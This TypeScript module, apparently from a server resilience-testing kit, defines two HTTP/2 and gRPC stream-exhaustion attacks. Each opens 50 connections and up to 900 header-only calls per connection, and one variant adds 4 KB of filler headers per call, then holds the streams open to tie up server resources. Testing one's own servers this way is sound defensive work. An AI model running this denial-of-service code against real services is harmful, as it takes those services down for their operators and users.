import type { Attack, Target } from "./kit/attack.ts";
import { callFields, FLAG, FRAME, frame, OPENING, SEND_MESSAGE } from "./kit/http2-frames.ts";
import { deadline, hold, openSockets, send } from "./kit/sockets.ts";

const CONNECTIONS = 50;
const STREAMS = 900;

/** Opens streams, and leaves them open. */
async function openStreams(target: Target, fields: Buffer): Promise<void> {
  const isOver = deadline(target);
  const sockets = await openSockets(target.grpcPort, CONNECTIONS);
  await Promise.all(
    sockets.map(async (socket) => {
      socket.resume();
      if (!(await send(target, socket, OPENING))) return;
      for (let stream = 1; stream < 2 * STREAMS && !isOver(); stream += 2) {
        if (!(await send(target, socket, frame(FRAME.HEADERS, FLAG.END_HEADERS, stream, fields)))) return;
      }
    }),
  );
  await hold(isOver);
}

export const openGrpcStreams: Attack = {
  name: "open-grpc-streams",
  what: `${CONNECTIONS} connections open ${STREAMS} calls each, without a message`,
  run: (target) => openStreams(target, callFields(SEND_MESSAGE)),
};

export const openHttp2Streams: Attack = {
  name: "open-http2-streams",
  what: `the same, with 4 KB of headers for each call`,
  run: (target) => openStreams(target, callFields(SEND_MESSAGE, { "x-filler": "f".repeat(4_000) })),
};
